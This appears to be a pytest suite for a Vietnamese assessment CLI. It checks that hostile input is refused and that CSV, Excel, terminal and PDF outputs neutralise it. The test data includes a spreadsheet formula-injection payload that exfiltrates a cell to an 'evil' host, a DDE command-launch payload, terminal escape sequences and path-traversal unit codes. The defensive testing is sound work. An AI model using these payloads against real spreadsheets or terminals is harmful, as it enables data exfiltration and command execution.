"""Hostile text at every way in and out of the command line (issue 12, items 7, 10, 11 and 15), in real processes
on a copy of the demo database as an SQLite file and as a PostgreSQL database (`demo_url`, tests/db_backends.py).

In: control characters, lone surrogates, over-long text and path-like unit codes are refused with exit code 2 and a
message saying what and where, and nothing is written (row counts and a hash of the content before and after).
Out: spreadsheet text is always text (never a formula), the terminal never receives a raw escape sequence, and
stored text of any length never stops a PDF (a scorecard, a booklet, `--each`).
"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.pool import NullPool

from tests.test_cli import run

TABLES = ("units", "assessments", "answers", "answer_history", "evidence", "appraisals", "review_notes", "audit_log")
FORMULA = '=HYPERLINK("http://evil/?x="&A2,"x")'
UNIT = "00070"


def _engine(db: str):  # type: ignore[no-untyped-def]
    return create_engine(db if "://" in db else f"sqlite:///{db}", poolclass=NullPool)


def snapshot(db: str) -> dict[str, tuple[int, str]]:
    """Per table: its row count and a SHA-256 of its rows (sorted), to prove that nothing was written."""
    engine = _engine(db)
    found = {}
    with engine.connect() as c:
        for table in TABLES:
            rows = sorted(repr(tuple(r)) for r in c.execute(text(f"SELECT * FROM {table}")))
            found[table] = (len(rows), hashlib.sha256("\n".join(rows).encode("utf-8", "surrogatepass")).hexdigest())
    engine.dispose()
    return found


def sql(db: str, statement: str, **params: object) -> None:
    engine = _engine(db)
    with engine.begin() as c:
        c.execute(text(statement), params)
    engine.dispose()


def refused(result, *phrases: str) -> None:  # type: ignore[no-untyped-def]
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr and "unexpected error" not in result.stderr
    for phrase in phrases:
        assert phrase in result.stderr, result.stderr


# ------------------------------------------------------------------------------------- 12.7 formulas

def test_a_formula_in_a_comment_or_a_name_is_text_in_every_export(demo_url, tmp_path):
    source = tmp_path / "in.csv"
    quoted = FORMULA.replace('"', '""')
    source.write_text(f'unit_code,cycle,indicator_code,value,comment\n{UNIT},2025,NTS01,2,"{quoted}"\n',
                      encoding="utf-8")
    assert run("answers", "import", str(source), db=demo_url, tmp=tmp_path).returncode == 0
    assert run("units", "set", UNIT, "--name-vi", "@SUM(1+1)*cmd|' /C calc'!A0", db=demo_url,
               tmp=tmp_path).returncode == 0

    xlsx = tmp_path / "answers.xlsx"
    assert run("answers", "export", "--cycle", "2025", "--unit", UNIT, "-o", str(xlsx), db=demo_url,
               tmp=tmp_path).returncode == 0
    sheet = openpyxl.load_workbook(xlsx).active
    comment = next(row[8] for row in sheet.iter_rows(min_row=2) if row[2].value == "NTS01")
    assert (comment.value, comment.data_type) == (FORMULA, "s")
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    scores = tmp_path / "scores.xlsx"
    assert run("export", "scores", "--cycle", "2025", "-o", str(scores), db=demo_url, tmp=tmp_path).returncode == 0
    book = openpyxl.load_workbook(scores)
    names = [c for row in book["Tổng hợp"].iter_rows(min_row=3) for c in row[:2] if row[0].value == UNIT]
    assert (names[1].value, names[1].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
    assert not [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_the_csv_export_quotes_formulas_and_reads_back_unchanged(demo_url, tmp_path):
    comments = {"NTS01": FORMULA, "NTS03": "+1 bổ sung", "TCS01": "@chú ý", "TCS02": "-giảm; đã rà soát"}
    current = run("answers", "export", "--cycle", "2025", "--unit", UNIT, db=demo_url, tmp=tmp_path).stdout
    rows = {r.split(",")[2]: r.split(",") for r in current.splitlines()[1:]}  # demo comments are empty
    lines = [",".join([*rows[code][:8], f'"{comment.replace(chr(34), 2 * chr(34))}"'])
             for code, comment in comments.items()]  # the same values, new comments
    source = tmp_path / "in.csv"
    source.write_text(current.splitlines()[0] + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
    result = run("answers", "import", str(source), db=demo_url, tmp=tmp_path)
    assert result.returncode == 0, result.stderr

    out = tmp_path / "answers.csv"
    assert run("answers", "export", "--cycle", "2025", "--unit", UNIT, "-o", str(out), db=demo_url,
               tmp=tmp_path).returncode == 0
    exported = out.read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A2,\"\"x\"\")\"" in exported
    assert ",'+1 bổ sung" in exported and ",'@chú ý" in exported and ",'-giảm; đã rà soát" in exported
    stdout = run("answers", "export", "--cycle", "2025", "--unit", UNIT, db=demo_url, tmp=tmp_path).stdout
    assert stdout.replace("\r\n", "\n") == exported.replace("\r\n", "\n")  # stdout is quoted the same way

    before = snapshot(demo_url)
    again = run("answers", "import", str(out), db=demo_url, tmp=tmp_path)
    assert again.returncode == 0 and " 0 new, 0 changed" in again.stdout, again.stdout + again.stderr
    assert snapshot(demo_url)["answers"] == before["answers"]


# ------------------------------------------------------------------------ 12.10, 12.11, 12.15 refused input

def _csv(tmp_path: Path, comment: str) -> list[str]:
    path = tmp_path / "bad.csv"
    path.write_text("unit_code,cycle,indicator_code,value,comment\n"
                    f"{UNIT},2025,NTS01,2,ok\n{UNIT},2025,HTS01,1,\"{comment}\"\n", encoding="utf-8",
                    errors="surrogatepass")
    return ["answers", "import", str(path)]


REFUSALS = {
    "BEL in a CSV comment": (lambda t: _csv(t, "chuông\x07"),
                             ["bad.csv:3: comment: HTS01: contains a control character (U+0007) at character 7",
                              "nothing was imported"]),
    "ESC in a CSV comment": (lambda t: _csv(t, "\x1b]0;pwned"), ["bad.csv:3: comment: HTS01: contains a control "
                                                                 "character (U+001B) at character 1"]),
    "8,000-character CSV comment": (lambda t: _csv(t, "dài " * 2000), ["bad.csv:3: comment: HTS01: longer than 2000 "
                                                                       "characters"]),
    "5,000-character unit name": (lambda t: ["units", "set", UNIT, "--name-vi", "Phường " * 715],
                                  ["unit name (vi): longer than 200 characters (it has 5,005)"]),
    "unit name with an escape sequence": (lambda t: ["units", "set", UNIT, "--name-vi", "Xã\x1b[2J\x1b]0;x\x07"],
                                          ["unit name (vi): contains a control character (U+001B) at character 3"]),
    "unit name with a line break": (lambda t: ["units", "set", UNIT, "--name-en", "Ward\nof X"],
                                    ["unit name (en): contains a tab or line break at character 5"]),
    "blank unit name": (lambda t: ["units", "set", UNIT, "--name-vi", "   "], ["unit name (vi): is blank"]),
    "empty unit name": (lambda t: ["units", "set", UNIT, "--name-vi", ""], ["unit name (vi): is blank"]),
    "unit code ../x": (lambda t: ["units", "add", "../x", "--kind", "commune", "--name-vi", "Xã X"],
                       ["unit code '../x' is not valid"]),
    "unit code with a slash": (lambda t: ["units", "add", "a/b", "--kind", "commune", "--name-vi", "Xã X"],
                               ["unit code 'a/b' is not valid"]),
    "unit added with a control name": (lambda t: ["units", "add", "X99", "--kind", "commune", "--name-vi", "Xã\x07"],
                                       ["unit name (vi): contains a control character (U+0007)"]),
    "8,000-character appraisal reason": (lambda t: ["review", "points", "--unit", UNIT, "--cycle", "2025", "NTS01",
                                                    "1", "--reason", "lý do " * 1600],
                                         ["NTS01: the reason: longer than 2000 characters (it has 9,600)"]),
    "appraisal reason with BEL": (lambda t: ["review", "points", "--unit", UNIT, "--cycle", "2025", "NTS01", "1",
                                             "--reason", "sai\x07"],
                                  ["NTS01: the reason: contains a control character (U+0007)"]),
    "user name with BEL": (lambda t: ["--user", "thanh\x07tra", "units", "set", UNIT, "--name-en", "Ward X"],
                           ["--user: contains a control character (U+0007) at character 6"]),
    "review comment with ESC": (lambda t: ["review", "comment", "--unit", UNIT, "--cycle", "2025", "NTS01",
                                           "xem lại\x1b[31m"], ["NTS01: the comment: contains a control character"]),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_hostile_text_is_refused_with_a_message_and_nothing_written(case, demo_url, tmp_path):
    command, phrases = REFUSALS[case]
    if "appraisal" in case or "review" in case:
        sql(demo_url, "UPDATE assessments SET status = 'under_review' WHERE unit_id = "
                      "(SELECT id FROM units WHERE code = :code) AND cycle_year = 2025", code=UNIT)
    before = snapshot(demo_url)
    result = run(*command(tmp_path), db=demo_url, tmp=tmp_path)
    refused(result, *phrases)
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert snapshot(demo_url) == before


# ------------------------------------------------------------------------------------ 12.11 terminal out

def test_stored_escape_sequences_never_reach_the_terminal(demo_url, tmp_path):
    """Text stored before the checks (or written straight into the database) is escaped on the way out."""
    hostile = "Phường\x1b]0;pwned\x07\x1b[2J\r\x9b"
    sql(demo_url, "UPDATE units SET name_vi = :name WHERE code = :code", name=hostile, code=UNIT)
    # the whole cycle's JSON is written ~400 KB at a time: cli/terminal.py checks such writes as bytes first
    for command in (["units", "list", "--kind", "commune"], ["score", "--cycle", "2025", "--kind", "commune"],
                    ["score", "--cycle", "2025", "--unit", UNIT, "--json"], ["score", "--cycle", "2025", "--json"]):
        result = run("--lang", "vi", *command, db=demo_url, tmp=tmp_path)  # the Vietnamese name is the hostile one
        assert result.returncode == 0, result.stderr
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.stdout + result.stderr), command
        if "--json" in command:  # JSON escapes are JSON's own: it still reads back exactly what is stored
            units = json.loads(result.stdout)["units"]
            assert next(u for u in units if u["unit_code"] == UNIT)["unit_name"] == hostile
        else:
            assert "Phường\\u001b]0;pwned\\u0007\\u001b[2J\\u000d\\u009b" in result.stdout, command


def test_stored_control_characters_never_crash_the_excel_exports(demo_url, tmp_path):
    sql(demo_url, "UPDATE units SET name_vi = :name WHERE code = :code", name="Phường\x07\x1b", code=UNIT)
    sql(demo_url, "UPDATE answers SET comment = :c", c="chuông\x07")
    for out in ("answers.xlsx", "scores.xlsx"):
        command = ["answers", "export", "--cycle", "2025", "--unit", UNIT] if out == "answers.xlsx" else \
            ["export", "scores", "--cycle", "2025"]
        result = run(*command, "-o", str(tmp_path / out), db=demo_url, tmp=tmp_path)
        assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(tmp_path / "answers.xlsx").active
    assert sheet["I2"].value == "chuông\\u0007"  # shown, not dropped: the cell says something was there
    summary = openpyxl.load_workbook(tmp_path / "scores.xlsx")["Tổng hợp"]
    assert "Phường\\u0007\\u001b" in [row[1].value for row in summary.iter_rows(min_row=3)]


# ------------------------------------------------------------------------------- 12.10 long stored text

def _store_long_texts(db: str) -> None:
    """Long texts stored below the service's checks (as an older dxscore or a direct edit could leave them)."""
    from assessment.domain.model import EvidenceItem
    from tests.db_backends import open_url_service

    sqlite = "://" not in db  # PostgreSQL holds at most the 200 characters of the column
    service = open_url_service(f"sqlite:///{db}" if sqlite else db)
    try:
        service.store.update_unit(UNIT, name_vi="Phường Hoàn Kiếm mở rộng " * (200 if sqlite else 8))  # 5,000 / 200
        service.store.update_unit("00004", name_vi="x" * (250 if sqlite else 200))
        assessment = service.store.assessments(2025, unit_code=UNIT)[0]
        service.store.answers.add_evidence(assessment.id, "NTS01", EvidenceItem(
            "Số " + "9" * 97, None, "Trích yếu rất dài, " * 420 + "HẾT"), who="test")  # 8,000 characters
        service.store.review.set_appraisal(assessment.id, "NTS01", 0.0, "Lý do thẩm định dài. " * 400, who="test")
    finally:
        service.store.close()


def test_long_stored_texts_never_stop_a_scorecard_a_booklet_or_each(demo_url, tmp_path):
    from tests.reports.conftest import page_texts

    _store_long_texts(demo_url)
    card = tmp_path / "card.pdf"
    result = run("report", "--cycle", "2025", "--unit", UNIT, "-o", str(card), db=demo_url, tmp=tmp_path)
    assert result.returncode == 0, result.stderr
    text = " ".join(" ".join(page_texts(card, layout=False)).split())
    assert "Trích yếu rất dài," in text and "rút gọn; toàn văn trong hồ sơ" in text
    assert "HẾT" not in text  # the 8,000 characters were shortened, with the note
    assert "Lý do thẩm định dài." in text

    booklet = tmp_path / "booklet.pdf"
    result = run("report", "--cycle", "2025", "--kind", "commune", "--booklet", "--units", f"{UNIT},00004,00175",
                 "-o", str(booklet), db=demo_url, tmp=tmp_path)
    assert result.returncode == 0, result.stderr

    folder = tmp_path / "each"
    result = run("report", "--cycle", "2025", "--kind", "commune", "--each", "--workers", "2", "-o", str(folder),
                 db=demo_url, tmp=tmp_path)
    assert result.returncode == 0, result.stderr
    files = sorted(p.name for p in folder.glob("*.pdf"))
    assert len(files) == 126
    assert max(len(name.encode()) for name in files) <= 110
    assert [n for n in files if n.startswith("2025-00004-")] == ["2025-00004-" + "x" * 60 + ".pdf"]
    assert any(n.startswith(f"2025-{UNIT}-phuong-hoan-kiem-mo-rong") for n in files)


# -------------------------------------------------------------------------------------- 12.15 messages

def test_a_huge_bad_file_prints_the_first_problems_and_a_count(demo_url, tmp_path):
    bad = tmp_path / "huge.csv"
    rows = "".join(f"{UNIT},2025,NTS01,abc{n}\n" for n in range(20_000))
    bad.write_text("unit_code,cycle,indicator_code,value\n" + rows, encoding="utf-8")
    before = snapshot(demo_url)
    result = run("answers", "import", str(bad), db=demo_url, tmp=tmp_path)
    refused(result, "nothing was imported", "… and 19,950 more problem(s)")
    assert len(result.stderr.splitlines()) <= 52
    assert snapshot(demo_url) == before


@pytest.mark.parametrize(("encode", "phrases"), [
    (lambda t: t.encode("utf-16"), ["the file is not UTF-8 text", "it is UTF-16", "CSV UTF-8"]),
    (lambda t: t.encode("cp1258"), ["the file is not UTF-8 text", "Windows-1258", "CSV UTF-8"]),
    (lambda t: t.replace(",", ";").encode("utf-8"), ["separated by semicolons", "CSV UTF-8"]),
])
def test_files_saved_in_the_wrong_format_get_a_hint(encode, phrases, demo_url, tmp_path):
    bad = tmp_path / "answers.csv"
    bad.write_bytes(encode("unit_code,cycle,indicator_code,value,comment\n"
                           f"{UNIT},2025,NTS01,2,Ph\u01b0\u01a1\u0300ng\n"))  # Windows-1258 spells ờ as ơ + grave
    before = snapshot(demo_url)
    refused(run("answers", "import", str(bad), db=demo_url, tmp=tmp_path), *phrases)
    assert snapshot(demo_url) == before
